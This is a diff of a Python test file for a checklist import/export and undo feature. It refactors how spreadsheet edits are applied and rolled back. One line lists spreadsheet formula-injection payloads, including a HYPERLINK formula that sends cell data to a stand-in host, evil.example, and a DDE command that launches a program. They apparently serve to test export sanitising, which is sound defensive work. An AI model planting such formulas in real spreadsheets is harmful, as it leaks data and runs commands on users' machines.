@@ -10,9 +10,9 @@ import pytest
 from exports.checklist_import import plan_checklist_import, read_supplier_list
 from exports.checklists import export_checklists, export_inventory
 from exports.xlsx_read import UnreadableWorkbook
-from models.materials.checklist_apply import apply_edits, undo_applied
-from models.materials import checklists
-from models.materials import library
+from models.materials import checklists, library
+from models.materials.checklist_apply import apply_edits
+from models.store.operations import recorded, run
 from tests.models.checklist_fixtures import TODAY, shop  # noqa: F401
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
@@ -120,7 +120,8 @@ def test_round_trip_updates_exactly_what_changed(filled, tmp_path):
     assert sheet.new_rows == [{"name": "矿泉水", "category": "餐饮", "quantity": 2,
                                "unit": "箱", "unit_price": 3600, "due_on": "2026-12-03",
                                "status": "待准备"}]
-    applied, change = apply_edits(ws.conn, plan.edits())
+    done = run(ws.conn, recorded(lambda conn: apply_edits(conn, plan.edits())))
+    change = done.change
     assert change.touches("checklist_items")
     after = {i.id: i for i in checklists.list_items(ws.conn, ids["salon_list"], TODAY)}
     assert after[made[0]].status == "已到货" and after[made[1]].quantity == 50
@@ -128,7 +129,7 @@ def test_round_trip_updates_exactly_what_changed(filled, tmp_path):
     assert all(after[i] == before[i] for i in untouched)
     (new_id,) = set(after) - set(before)
     assert after[new_id].unit_price == 3600
-    undo_applied(ws.conn, applied)
+    run(ws.conn, done.undo)
     assert {i.id: i for i in checklists.list_items(ws.conn, ids["salon_list"], TODAY)} \
         == before
 
